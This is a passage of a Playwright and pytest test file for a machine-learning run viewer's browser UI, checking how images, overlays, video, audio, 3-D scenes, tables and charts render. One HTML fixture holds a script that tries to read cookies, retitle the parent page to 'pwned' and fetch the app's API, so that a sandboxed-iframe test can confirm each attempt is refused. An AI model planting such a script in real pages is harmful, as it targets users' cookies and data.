"""The viewer's page in a real browser: Debian's Chromium driven by Playwright over `darkroom ui`.

One run is logged for the module with the embedded default (every kind the
page draws); each test starts its own `darkroom ui` over that storage
(`ui_server`, tests/ui/conftest.py) and opens the page in a fresh browser
context.  Pixels are read from screenshots, which are kept under
``test-output/ui/`` for a person to look at.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import numpy as np
import pytest

import darkroom
from darkroom.pipeline import paths
from darkroom.pipeline.history import media_ref

ROOT = Path(__file__).resolve().parents[2]
SHOTS = ROOT / "test-output" / "ui"
CHROMIUM = "/usr/bin/chromium"
TOKEN = "browser-test-token-0123456789"
GRAY = (128, 128, 128)
# The box the first test looks for, in fractions of a 100x80 image.
BOX = {"minX": 0.2, "maxX": 0.6, "minY": 0.25, "maxY": 0.75}
# A lidar scene's box (magenta, unit cube corners in any order) and vector (cyan).
LIDAR_BOX = {"corners": [[x, y, z] for z in (-1, 1) for y in (-1, 1) for x in (-1, 1)], "color": [255, 0, 255],
             "label": "car", "score": 0.9}
LIDAR_VECTOR = {"start": [0, 0, 0], "end": [2.5, 0, 0], "color": [0, 255, 255]}
HTML = """<p id="out">not run</p><script>
const out = [];
try { out.push("title:" + parent.document.title); } catch (e) { out.push("parent:" + e.name); }
try { parent.document.title = "pwned"; } catch (e) { out.push("write:" + e.name); }
try { out.push("cookie:" + document.cookie); } catch (e) { out.push("cookie:" + e.name); }
out.push("origin:" + window.origin);
fetch("/api/runs").then(() => "api:read", (e) => "api:" + e.name).then((r) => {
  out.push(r); document.getElementById("out").textContent = out.join(" ");
});
</script>"""


# -- the run the tests look at --------------------------------------------------------------------------


def _cube_obj() -> bytes:
    corners = [(x, y, z) for x in (0, 1) for y in (0, 1) for z in (0, 1)]
    faces = [(1, 2, 4, 3), (5, 7, 8, 6), (1, 5, 6, 2), (3, 4, 8, 7), (1, 3, 7, 5), (2, 6, 8, 4)]
    lines = [f"v {x} {y} {z}" for x, y, z in corners]
    lines += [f"f {a} {b} {c}\nf {a} {c} {d}" for a, b, c, d in faces]
    return ("\n".join(lines) + "\n").encode()


@pytest.fixture(scope="module")
def logged(tmp_path_factory: pytest.TempPathFactory, embedded_in) -> dict:
    """A finished run with every kind, an earlier run of its project and a run of another; URL and paths."""
    root = tmp_path_factory.mktemp("browser")
    rng = np.random.default_rng(0)
    mesh = root / "cube.obj"
    mesh.write_bytes(_cube_obj())
    with embedded_in(root) as url:
        earlier = darkroom.init(project="viewer", name="earlier")
        for step in range(3):
            earlier.log({"loss": 2.0 - step / 2}, step=step)
        earlier.finish(quiet=True)
        elsewhere = darkroom.init(project="elsewhere")
        elsewhere.log({"x": 1})
        elsewhere.finish(quiet=True)
        time.sleep(0.01)  # a later start: listed first

        run = darkroom.init(project="viewer", name="all-kinds", config={"lr": 0.001, "model": {"depth": 4}})
        mask = np.zeros((80, 100), np.uint8)
        mask[50:70, 60:90] = 2
        scene = darkroom.Image(
            np.full((80, 100, 3), GRAY, np.uint8), caption="a gray scene",
            boxes={"predictions": {"box_data": [{"position": BOX, "class_id": 1, "box_caption": "car",
                                                 "scores": {"confidence": 0.8}}],
                                   "class_labels": {1: "car"}},
                   "ground_truth": {"box_data": [{"position": {"minX": 0.05, "maxX": 0.15, "minY": 0.1, "maxY": 0.3},
                                                  "class_id": 3}],
                                    "class_labels": {3: "sign"}}},
            masks={"truth": {"mask_data": mask, "class_labels": {0: "background", 2: "road"}}})
        frames = np.zeros((16, 3, 48, 64), np.uint8)
        frames[:, 0] = np.linspace(0, 255, 16, dtype=np.uint8)[:, None, None]  # red rises frame by frame
        chirp = (0.3 * np.sin(np.linspace(0, 2 * np.pi * 440 * 1.5, 12_000))).astype(np.float32)
        table = darkroom.Table(columns=["id", "name", "picture"])
        for i, name in enumerate(["b", "c", "a"]):
            table.add_data(i, name, darkroom.Image(np.full((20, 20), 60 * i, np.uint8), boxes={
                "predictions": {"box_data": [{"position": {"minX": 0.1, "maxX": 0.9, "minY": 0.1, "maxY": 0.9},
                                              "class_id": 1}]}}))
        cloud = np.concatenate([rng.normal(0, 1, (3000, 3)), rng.integers(1, 4, (3000, 1))], axis=1)
        run.log({"loss": 1.0, "scene": scene, "steps": darkroom.Image(np.zeros((40, 40, 3), np.uint8)),
                 "weights": darkroom.Histogram(rng.normal(0, 1, 1000))}, step=0)
        run.log({"loss": 0.5, "steps": darkroom.Image(np.full((40, 40, 3), 255, np.uint8)),
                 "weights": darkroom.Histogram(rng.normal(1, 0.5, 1000)),
                 "video": darkroom.Video(frames, fps=4, format="webm", caption="red rises"),
                 "audio": darkroom.Audio(chirp, sample_rate=8000, caption="1.5 s"),
                 "page": darkroom.Html(HTML, inject=False),
                 "cloud": darkroom.Object3D(cloud, caption="3,000 points"),
                 "mesh": darkroom.Object3D.from_file(str(mesh)),
                 "molecule": darkroom.Molecule.from_smiles("CC(=O)Oc1ccccc1C(=O)O", caption="aspirin"),
                 "table": table,
                 "lidar": darkroom.Object3D.from_point_cloud(rng.normal(0, 1, (500, 3)), boxes=[LIDAR_BOX],
                                                             vectors=[LIDAR_VECTOR]),
                 "confusion": darkroom.plot.confusion_matrix(y_true=[0, 1, 1, 0, 1], preds=[0, 1, 0, 0, 1],
                                                             class_names=["cat", "dog"]),
                 "broken": darkroom.Image(np.full((2, 2), np.nan))}, step=1)
        report = run.finish(quiet=True)
    assert report.pending == 0 and [f.key for f in report.failed] == ["broken"], report
    api = darkroom.Api(url)
    return {"url": url, "path": run.path, "earlier": earlier.path, "elsewhere": elsewhere.path, "api": api}


# -- the browser ------------------------------------------------------------------------------------------


# The one browser of the session.  Other test modules import this fixture
# (`from test_browser import browser`), which makes it a fixture of each of
# them: pytest then sets it up once per module that imported it, and a second
# Playwright cannot start while the first runs ("Sync API inside the asyncio
# loop").  So the first set-up launches Chromium and the others share it; the
# first is torn down last (session fixtures end in reverse order), closing it.
_SHARED: dict = {}


@pytest.fixture(scope="session")
def browser():
    if "browser" in _SHARED:
        yield _SHARED["browser"]
        return
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: the browser tests drive Debian's chromium "
                    "(apt-get install chromium, or run the README's test command)")
    from playwright.sync_api import sync_playwright

    args = ["--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--no-first-run", "--disable-quic"]
    if os.geteuid() == 0:
        args.append("--no-sandbox")  # Chromium's own sandbox refuses to run as root
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=args)
        _SHARED["browser"] = chromium
        try:
            yield chromium
        finally:
            del _SHARED["browser"]
            chromium.close()


@pytest.fixture
def page(browser, request):
    """A page at 1280x900, one CSS pixel a device pixel; fails the test on any script error."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, device_scale_factor=1)
    page = context.new_page()
    page.set_default_timeout(15_000)
    errors: list[str] = []
    network: list[str] = []  # said when a test fails: what the page could not fetch
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("requestfailed", lambda r: network.append(f"{r.url}: {r.failure}"))
    page.on("response", lambda r: network.append(f"{r.url}: {r.status}") if r.status >= 400 else None)
    yield page
    if network:
        print("requests that failed:", *network, sep="\n  ")  # shown with a failing test's output
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{request.node.name}.png"), full_page=True)
    context.close()
    assert errors == [], f"script errors on the page: {errors}; failed requests: {network}"


def run_url(base: str, path: str, token: str | None = None) -> str:
    project, run = path.split("/")
    return f"{base}/{'?token=' + token if token else ''}#/run/{project}/{run}"


def open_run(page, base: str, path: str, token: str | None = None):
    """Open a run's page and wait until every media panel has drawn its step (the layout is still)."""
    page.goto(run_url(base, path, token))
    page.wait_for_selector("section.media-panel")
    page.wait_for_function("() => [...document.querySelectorAll('section.media-panel .step-view')]"
                           ".every((v) => v.dataset.painted)")


def screenshot(locator, name: str):
    """A screenshot of `locator` as a PIL image (also saved for a person to look at)."""
    from PIL import Image

    SHOTS.mkdir(parents=True, exist_ok=True)
    data = locator.screenshot(path=str(SHOTS / f"{name}.png"), animations="disabled")
    return Image.open(io.BytesIO(data)).convert("RGB")


def hex_rgb(text: str) -> tuple[int, int, int]:
    return tuple(int(text[i:i + 2], 16) for i in (1, 3, 5))  # type: ignore[return-value]


def close(a, b, tolerance: int = 12) -> bool:
    return all(abs(int(x) - int(y)) <= tolerance for x, y in zip(a, b))


def near(image, x: float, y: float, colour, radius: int = 2) -> bool:
    """Whether a pixel within `radius` of (x, y) has `colour`."""
    for dx in range(-radius, radius + 1):
        for dy in range(-radius, radius + 1):
            px, py = int(round(x)) + dx, int(round(y)) + dy
            if 0 <= px < image.width and 0 <= py < image.height and close(image.getpixel((px, py)), colour):
                return True
    return False


def ready(page, selector: str):
    """The element at `selector` once it has drawn (data-ready)."""
    locator = page.locator(selector)
    locator.wait_for()
    page.wait_for_function("(el) => el.dataset.ready === '1'", arg=locator.element_handle())
    return locator


def set_range(locator, value: float) -> None:
    locator.evaluate("(el, v) => { el.value = String(v); el.dispatchEvent(new Event('input', {bubbles: true})); }",
                     value)


# -- images: boxes, masks, steps --------------------------------------------------------------------------


def test_a_box_is_drawn_where_its_coordinates_say_and_disappears_when_its_group_is_toggled_off(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='scene']")
    canvas = ready(page, "section.media-panel[data-key='scene'] canvas.image-canvas")
    colour = hex_rgb(panel.locator(".box-group[data-group='predictions'] .class-chip[data-class-id='1']")
                     .get_attribute("data-color"))
    panel.locator(".mask-group[data-group='truth'] input[data-role='group-toggle']").uncheck()  # the image alone
    image = screenshot(canvas, "box-on")
    w, h = image.size
    assert (w, h) == (400, 320)  # 100x80 enlarged 4 times for a single image
    left, right, top, bottom = BOX["minX"] * w, BOX["maxX"] * w, BOX["minY"] * h, BOX["maxY"] * h
    middle_y, middle_x = (top + bottom) / 2, (left + right) / 2
    for x, y in ((left, middle_y), (right, middle_y), (middle_x, bottom), (middle_x + 30, top)):
        assert near(image, x, y, colour), f"no box colour {colour} near ({x}, {y})"
    # Inside and outside the outline: the image itself.
    assert close(image.getpixel((int(middle_x), int(middle_y))), GRAY)
    assert close(image.getpixel((int(left) - 6, int(middle_y))), GRAY)

    panel.locator(".box-group[data-group='predictions'] input[data-role='group-toggle']").uncheck()
    off = screenshot(canvas, "box-off")
    for x, y in ((left, middle_y), (right, middle_y), (middle_x, bottom)):
        assert not near(off, x, y, colour), f"box still drawn near ({x}, {y}) with its group off"
    # The other group stays.
    other = hex_rgb(panel.locator(".box-group[data-group='ground_truth'] .class-chip").first.get_attribute("data-color"))
    assert near(off, 0.05 * w, 0.2 * h, other)


def test_a_score_threshold_above_a_boxs_score_hides_it(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='scene']")
    canvas = ready(page, "section.media-panel[data-key='scene'] canvas.image-canvas")
    colour = hex_rgb(panel.locator(".box-group[data-group='predictions'] .class-chip").first.get_attribute("data-color"))
    slider = panel.locator(".score[data-score='confidence'] input[type=range]")
    set_range(slider, 0.7)
    assert near(screenshot(canvas, "score-0.7"), BOX["minX"] * 400, 160, colour)  # 0.8 >= 0.7: shown
    set_range(slider, 0.9)
    assert not near(screenshot(canvas, "score-0.9"), BOX["minX"] * 400, 160, colour)


def test_a_masks_pixels_change_colour_with_the_opacity_slider(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='scene']")
    canvas = ready(page, "section.media-panel[data-key='scene'] canvas.image-canvas")
    group = panel.locator(".mask-group[data-group='truth']")
    road = group.locator(".class-chip[data-class-id='2']")
    assert road.inner_text().strip() == "road"
    colour = hex_rgb(road.get_attribute("data-color"))
    inside = (75 * 4, 60 * 4)  # mask rows 50:70, columns 60:90 of 100x80, shown 4x
    slider = group.locator("input[data-role='opacity']")
    seen = []
    for opacity in (0.0, 0.5, 1.0):
        set_range(slider, opacity)
        seen.append(screenshot(canvas, f"mask-opacity-{opacity}").getpixel(inside))
    assert close(seen[0], GRAY, 3)
    assert close(seen[2], colour, 3)
    expected_half = tuple((g + c) / 2 for g, c in zip(GRAY, colour))
    assert close(seen[1], expected_half, 8), (seen, expected_half)
    # Outside the mask, class 0 was labelled by the user: it is coloured too, and hides with its class.
    group.locator(".class-chip[data-class-id='0'] input").uncheck()
    assert close(screenshot(canvas, "mask-background-off").getpixel((20, 300)), GRAY, 3)


def test_the_step_slider_changes_the_image(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    selector = "section.media-panel[data-key='steps'] .step-view[data-side='a']"
    view = page.locator(selector)
    canvas = ready(page, f"{selector} canvas.image-canvas")
    assert view.get_attribute("data-step") == "1"  # opens at the newest step
    assert close(screenshot(canvas, "step-1").getpixel((10, 10)), (255, 255, 255), 2)
    view.locator("input.step-slider").press("Home")
    page.wait_for_function("() => document.querySelector(\"section[data-key='steps'] .step-view\").dataset.step === '0'")
    canvas = ready(page, f"{selector} canvas.image-canvas")
    assert close(screenshot(canvas, "step-0").getpixel((10, 10)), (0, 0, 0), 2)
    assert "step 0 (1 of 2)" in view.locator(".step-label").inner_text()


def test_compare_shows_two_steps_side_by_side(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='steps']")
    ready(page, "section.media-panel[data-key='steps'] canvas.image-canvas")
    panel.locator("input.compare-toggle").check()
    b = ready(page, "section.media-panel[data-key='steps'] .step-view[data-side='b'] canvas.image-canvas")
    a = page.locator("section.media-panel[data-key='steps'] .step-view[data-side='a'] canvas.image-canvas")
    assert panel.locator(".step-view[data-side='b']").get_attribute("data-step") == "0"
    assert close(screenshot(b, "compare-b").getpixel((5, 5)), (0, 0, 0), 2)
    assert close(screenshot(a, "compare-a").getpixel((5, 5)), (255, 255, 255), 2)
    assert a.bounding_box()["x"] < b.bounding_box()["x"]


def test_the_page_fetches_one_steps_media_and_never_the_whole_run(page, ui_server, logged):
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    open_run(page, ui_server(logged["url"]), logged["path"])
    ready(page, "section.media-panel[data-key='steps'] canvas.image-canvas")
    steps_requests = [u for u in requests if "/media?" in u and "key=steps" in u]
    assert len(steps_requests) == 1 and "step=1" in steps_requests[0], steps_requests


# -- players, html, 3-D, tables, histograms, charts --------------------------------------------------------------


def test_a_video_element_plays(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    video = page.locator("section.media-panel[data-key='video'] video")
    video.wait_for()
    page.wait_for_function("(v) => v.readyState >= 1", arg=video.element_handle())
    assert abs(video.evaluate("(v) => v.duration") - 4.0) < 0.3  # 16 frames at 4 fps
    video.evaluate("(v) => v.play()")
    page.wait_for_function("(v) => v.currentTime > 0.5", arg=video.element_handle())
    assert video.evaluate("(v) => v.error") is None
    caption = page.locator("section.media-panel[data-key='video'] figcaption").inner_text()
    assert "red rises" in caption and "4 fps" in caption


def test_an_audio_element_reports_the_logged_duration(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    audio = page.locator("section.media-panel[data-key='audio'] audio")
    audio.wait_for()
    page.wait_for_function("(a) => a.readyState >= 1", arg=audio.element_handle())
    assert abs(audio.evaluate("(a) => a.duration") - 1.5) < 0.01
    assert "8,000 Hz" in page.locator("section.media-panel[data-key='audio'] figcaption").inner_text()


def test_an_html_item_lives_in_a_sandboxed_iframe_that_cannot_read_the_parent(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    frame = page.locator("section.media-panel[data-key='page'] iframe")
    frame.wait_for()
    assert frame.get_attribute("sandbox") == "allow-scripts"
    assert page.locator("section.media-panel[data-key='page'] p#out").count() == 0  # never inline
    out = page.frame_locator("section.media-panel[data-key='page'] iframe").locator("#out")
    page.wait_for_function("(f) => f.contentDocument === null", arg=frame.element_handle())  # opaque to us too
    text = out.inner_text(timeout=15_000)
    deadline = time.monotonic() + 10
    while "api:" not in text and time.monotonic() < deadline:  # the fetch settles last
        time.sleep(0.1)
        text = out.inner_text()
    # Its script ran (the iframe allows scripts; so must the file's own CSP `sandbox` header) and was refused.
    assert text != "not run", "the logged HTML's script did not run: its response's CSP must be 'sandbox allow-scripts'"
    assert "parent:SecurityError" in text and "write:SecurityError" in text, text
    assert "origin:null" in text and "api:TypeError" in text, text  # an opaque origin: the API is another origin
    assert "cookie:SecurityError" in text, text
    assert page.title() != "pwned"


def test_a_point_clouds_canvas_draws_non_background_pixels_and_changes_after_a_drag(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    canvas = ready(page, "section.media-panel[data-key='cloud'] canvas.scene-canvas")
    background = (17, 24, 39)
    before = screenshot(canvas, "cloud-before")
    drawn = np.asarray(before).reshape(-1, 3)
    lit = int((np.abs(drawn.astype(int) - background).sum(axis=1) > 30).sum())
    assert lit > 2000, f"only {lit} non-background pixels"
    box = canvas.bounding_box()
    frames = int(canvas.get_attribute("data-frames"))
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.down()
    for i in range(1, 9):
        page.mouse.move(box["x"] + box["width"] / 2 + 12 * i, box["y"] + box["height"] / 2 + 4 * i)
    page.mouse.up()
    page.wait_for_function("([el, n]) => Number(el.dataset.frames) > n", arg=[canvas.element_handle(), frames])
    after = np.asarray(screenshot(canvas, "cloud-after")).astype(int)
    changed = int((np.abs(after - np.asarray(before).astype(int)).sum(axis=2) > 30).sum())
    assert changed > 1000, f"only {changed} pixels changed after rotating"


def test_a_mesh_is_drawn_shaded_from_its_glb(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    canvas = ready(page, "section.media-panel[data-key='mesh'] canvas.scene-canvas")
    pixels = np.asarray(screenshot(canvas, "mesh")).reshape(-1, 3).astype(int)
    lit = pixels[np.abs(pixels - (17, 24, 39)).sum(axis=1) > 30]
    assert len(lit) > 5000
    # Flat shading: the cube's visible faces get different shades.
    assert len({tuple(p) for p in lit}) >= 2


def test_a_molecule_has_a_3d_view_and_its_2d_depiction(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='molecule']")
    canvas = ready(page, "section.media-panel[data-key='molecule'] canvas.scene-canvas")
    assert canvas.get_attribute("data-atoms") == "21"  # aspirin with its hydrogens
    pixels = np.asarray(screenshot(canvas, "molecule")).reshape(-1, 3).astype(int)
    red = ((pixels[:, 0] > 150) & (pixels[:, 1] < 90) & (pixels[:, 2] < 90)).sum()
    assert red > 50  # oxygen atoms
    depiction = panel.locator("img.depiction")
    page.wait_for_function("(img) => img.complete && img.naturalWidth > 0", arg=depiction.element_handle())
    assert "21 atoms" in panel.locator("figcaption").inner_text()


def test_the_page_reads_the_workers_geometry_files_for_3d_items(page, ui_server, logged):
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    open_run(page, ui_server(logged["url"]), logged["path"])
    for key in ("cloud", "mesh", "molecule"):
        ready(page, f"section.media-panel[data-key='{key}'] canvas.scene-canvas")
        roles = {f["role"] for f in logged["api"].run(logged["path"]).manifests(key=key)[0]["related"]}
        assert "geometry" in roles, roles
        assert any(f"key={key}&" in u and "role=geometry" in u for u in requests), (key, requests)


def test_3d_items_without_geometry_files_are_read_from_their_own_files(page, ui_server, embedded_env, tmp_path):
    """Items converted before workers wrote geometry files: pts.json, the mesh's GLB, the PDB text."""
    mesh = tmp_path / "cube.obj"
    mesh.write_bytes(_cube_obj())
    rng = np.random.default_rng(3)
    run = darkroom.init(project="older", name="no-geometry")
    run.log({"cloud": darkroom.Object3D(rng.normal(0, 1, (3000, 3))),
             "mesh": darkroom.Object3D.from_file(str(mesh)),
             "molecule": darkroom.Molecule.from_smiles("CC(=O)Oc1ccccc1C(=O)O")})
    assert not run.finish(quiet=True).failed
    data = Path(embedded_env["DARKROOM_STORAGE_URL"][len("file://"):])
    for key in ("cloud", "mesh", "molecule"):
        manifest = data / paths.manifest_key("older", run.id, 0, key, 0)
        body = json.loads(manifest.read_text())
        body["related"] = [f for f in body["related"] if f["role"] not in ("geometry", "display")]
        manifest.write_text(json.dumps(body))
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    open_run(page, ui_server(embedded_env["DARKROOM_STORAGE_URL"]), run.path)
    for key, atoms in (("cloud", None), ("mesh", None), ("molecule", "21")):
        canvas = ready(page, f"section.media-panel[data-key='{key}'] canvas.scene-canvas")
        pixels = np.asarray(screenshot(canvas, f"{key}-without-geometry")).reshape(-1, 3).astype(int)
        assert (np.abs(pixels - (17, 24, 39)).sum(axis=1) > 30).sum() > 1000, key
        if atoms:
            assert canvas.get_attribute("data-atoms") == atoms
    assert not any("role=geometry" in u for u in requests)
    assert any("key=mesh&" in u and "role=glb" in u for u in requests)


def test_a_cloud_over_the_display_cap_is_drawn_subsampled_with_a_note(page, ui_server, embedded_env):
    rng = np.random.default_rng(2)
    points = np.concatenate([rng.normal(0, 1, (320_000, 3)), rng.integers(1, 5, (320_000, 1))], axis=1)
    run = darkroom.init(project="clouds", name="big")
    run.log({"cloud": darkroom.Object3D(points.astype(np.float32))})
    assert not run.finish(quiet=True).failed
    open_run(page, ui_server(embedded_env["DARKROOM_STORAGE_URL"]), run.path)
    canvas = ready(page, "section.media-panel[data-key='cloud'] canvas.scene-canvas")
    assert canvas.get_attribute("data-points") == "300000"
    note = page.locator("section.media-panel[data-key='cloud'] .scene-note").inner_text()
    assert "300,000 of 320,000 points" in note
    pixels = np.asarray(screenshot(canvas, "cloud-subsampled")).reshape(-1, 3).astype(int)
    assert (np.abs(pixels - (17, 24, 39)).sum(axis=1) > 30).sum() > 5000


def test_a_lidar_scene_draws_its_boxes_and_vectors(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    canvas = ready(page, "section.media-panel[data-key='lidar'] canvas.scene-canvas")
    pixels = np.asarray(screenshot(canvas, "lidar")).reshape(-1, 3).astype(int)
    magenta = (np.abs(pixels - LIDAR_BOX["color"]).sum(axis=1) < 60).sum()
    cyan = (np.abs(pixels - LIDAR_VECTOR["color"]).sum(axis=1) < 60).sum()
    assert magenta > 300 and cyan > 50, (magenta, cyan)  # 12 edges and a label; a line and its head


def test_a_plot_shows_its_picture_and_the_points_behind_it(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='confusion']")
    picture = panel.locator("img.plot")
    page.wait_for_function("(img) => img.complete && img.naturalWidth > 0", arg=picture.element_handle())
    panel.locator("details.plot-points summary").click()
    rows = panel.locator("table.data-table tbody tr")
    rows.first.wait_for()
    assert rows.count() == 4  # cat/dog x cat/dog
    headers = panel.locator("table.data-table thead th").all_inner_texts()
    assert [h.strip() for h in headers] == ["#", "Actual", "Predicted", "nPredictions"]
    counts = {tuple(rows.nth(i).locator("td").all_inner_texts()[1:]) for i in range(4)}
    assert ("dog", "cat", "1") in counts and ("cat", "cat", "2") in counts


def test_a_table_is_paged_sortable_and_draws_its_image_cells_with_overlays(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.media-panel[data-key='table']")
    table = panel.locator("table.data-table")
    table.wait_for()
    page.wait_for_function("(p) => p.querySelectorAll('canvas.image-canvas[data-ready]').length === 3",
                           arg=panel.element_handle())
    names = lambda: table.locator("tbody tr td:nth-child(3)").all_inner_texts()  # noqa: E731
    assert names() == ["b", "c", "a"]
    shown = ("([p, want]) => [...p.querySelectorAll('table.data-table tbody tr td:nth-child(3)')]"
             ".map((c) => c.textContent).join() === want")  # the server sorts: wait for its page
    table.locator("th[data-column='name']").click()
    page.wait_for_function(shown, arg=[panel.element_handle(), "a,b,c"])
    table.locator("th[data-column='name']").click()
    page.wait_for_function(shown, arg=[panel.element_handle(), "c,b,a"])
    page.wait_for_function("(p) => p.querySelector('.table-view').dataset.state === 'ready'",
                           arg=panel.element_handle())
    cell = screenshot(panel.locator("canvas.image-canvas").first, "table-cell")
    colour = hex_rgb(panel.locator(".class-chip").first.get_attribute("data-color"))
    assert near(cell, 0.1 * cell.width, cell.height / 2, colour)
    assert "3 rows" in panel.locator(".page-label").inner_text()


def test_a_histogram_shows_its_bars_and_a_heatmap_over_steps(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    panel = page.locator("section.histogram-panel[data-key='weights']")
    panel.wait_for()
    assert panel.get_attribute("data-step") == "1"
    bars = np.asarray(screenshot(panel.locator("canvas.histogram-bars"), "histogram-bars")).reshape(-1, 3).astype(int)
    assert ((bars[:, 2] > 200) & (bars[:, 0] < 100)).sum() > 500  # blue bars
    heat = np.asarray(screenshot(panel.locator("canvas.histogram-heatmap"), "histogram-heatmap")).astype(int)
    # Two steps, two columns: the left and right halves differ (the mean moved from 0 to 1).
    half = heat.shape[1] // 2
    assert np.abs(heat[:, 60:half - 10] .mean(axis=1) - heat[:, half + 10:-20].mean(axis=1)).sum() > 100
    set_range(panel.locator("input[type=range]"), 0)
    assert panel.get_attribute("data-step") == "0"


def test_a_scalar_chart_shows_values_on_hover_and_overlays_another_run(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    chart = page.locator("figure.chart[data-key='loss']")
    canvas = chart.locator("canvas")
    box = canvas.bounding_box()
    page.mouse.move(box["x"] + box["width"] - 14, box["y"] + box["height"] / 2)
    tooltip = chart.locator(".chart-tooltip")
    assert "step 1" in tooltip.inner_text() and ": 0.5" in tooltip.inner_text()
    page.locator(f".overlay-run[data-path='{logged['earlier']}'] input").check()
    # Checking the box moved the pointer away; back on the chart, the pointer rests there, and the
    # overlaid run's value joins the tooltip when its values arrive, before or after the pointer.
    page.mouse.move(box["x"] + box["width"] - 14, box["y"] + box["height"] / 2 + 1)
    page.wait_for_function("() => document.querySelector(\"figure.chart[data-key='loss'] .chart-tooltip\")"
                           ".textContent.includes('earlier')")
    assert "earlier: 1.5" in tooltip.inner_text()


# -- item states -------------------------------------------------------------------------------------------


def test_a_failed_item_shows_its_message(page, ui_server, logged):
    open_run(page, ui_server(logged["url"]), logged["path"])
    message = logged["api"].run(logged["path"]).manifests(key="broken")[0]["error"]["message"]
    failed = page.locator("section.media-panel[data-key='broken'] figure[data-status='failed'] [role=alert]")
    assert message in failed.inner_text()
    assert "NaN" in message


def test_a_pending_item_shows_a_placeholder_until_it_is_converted(page, ui_server, tmp_path, embedded_env):
    run = darkroom.init(project="live", name="pending")
    run.log({"picture": darkroom.Image(np.full((30, 30, 3), (200, 30, 30), np.uint8))})
    run.finish(quiet=True)
    storage = darkroom.Api().storage
    # A second item the history promises and no worker has converted yet (a fleet's queue).
    api_run = darkroom.Api().run(run.path)
    manifest = api_run.manifests(key="picture")[0]
    row = {"_step": 0, "_timestamp": time.time(), "picture": media_ref("image", 0, "picture", 2, True)}
    # The sender names a chunk by its first step, so the row is written over chunk 0.
    storage.put(paths.history_chunk_key("live", run.id, 0), json.dumps(row).encode() + b"\n")
    open_run(page, ui_server(embedded_env["DARKROOM_STORAGE_URL"]), run.path)
    placeholder = page.locator("section.media-panel[data-key='picture'] figure[data-status='pending']")
    assert "converting" in placeholder.inner_text()
    # The worker delivers it: the page shows it without a reload.
    page.evaluate("() => { window.notReloaded = true; }")
    second = dict(manifest, index=1)
    storage.put(paths.manifest_key("live", run.id, 0, "picture", 1), json.dumps(second).encode())
    ready(page, "section.media-panel[data-key='picture'] figure[data-index='1'] canvas.image-canvas")
    assert page.evaluate("() => window.notReloaded") is True


def test_a_running_runs_new_steps_appear_without_a_reload(page, ui_server, embedded_env):
    run = darkroom.init(project="live", name="running")
    run.log({"loss": 1.0, "picture": darkroom.Image(np.zeros((16, 16, 3), np.uint8))})
    base = ui_server(embedded_env["DARKROOM_STORAGE_URL"])
    deadline = time.monotonic() + 30
    while not darkroom.Api().run(run.path).manifests(key="picture") and time.monotonic() < deadline:
        time.sleep(0.05)
    open_run(page, base, run.path)
    ready(page, "section.media-panel[data-key='picture'] canvas.image-canvas")
    assert page.locator("main").get_attribute("data-state") == "running"
    page.evaluate("() => { window.notReloaded = true; }")
    run.log({"loss": 0.5, "picture": darkroom.Image(np.full((16, 16, 3), 255, np.uint8))})
    page.wait_for_function("() => document.querySelector(\"section[data-key='picture'] .step-view\").dataset.step === '1'"
                           " && document.querySelector(\"section[data-key='picture'] canvas.image-canvas\").dataset.ready",
                           timeout=20_000)
    assert page.evaluate("() => window.notReloaded") is True
    run.finish(quiet=True)
    page.wait_for_function("() => document.querySelector('main').dataset.state === 'finished'", timeout=20_000)


# -- the runs list and the token ---------------------------------------------------------------------------------


def test_the_runs_list_shows_runs_newest_first_with_counts_and_filters_by_project(page, ui_server, logged):
    base = ui_server(logged["url"])
    page.goto(f"{base}/")
    rows = page.locator("table.runs-table tbody tr")
    rows.first.wait_for()
    paths_shown = [rows.nth(i).get_attribute("data-path") for i in range(rows.count())]
    assert paths_shown == [logged["path"], logged["elsewhere"], logged["earlier"]]
    row = page.locator(f"tr[data-path='{logged['path']}']")
    assert row.locator("td").nth(4).inner_text() == "finished"  # after the compare tick, project, run, started
    cells = row.locator("td.number").all_inner_texts()
    assert cells[1] == "1"  # one failed item
    page.locator("select.project-filter").select_option("viewer")
    page.wait_for_function("() => document.querySelectorAll('table.runs-table tbody tr').length === 2")
    row.locator("a").click()
    page.wait_for_selector("section.media-panel[data-key='scene']")
    assert page.url.endswith(f"#/run/{logged['path']}")


def test_a_token_protected_server_refuses_a_request_without_it(page, ui_server, logged):
    base = ui_server(logged["url"], token=TOKEN)
    with pytest.raises(urllib.error.HTTPError) as refused:
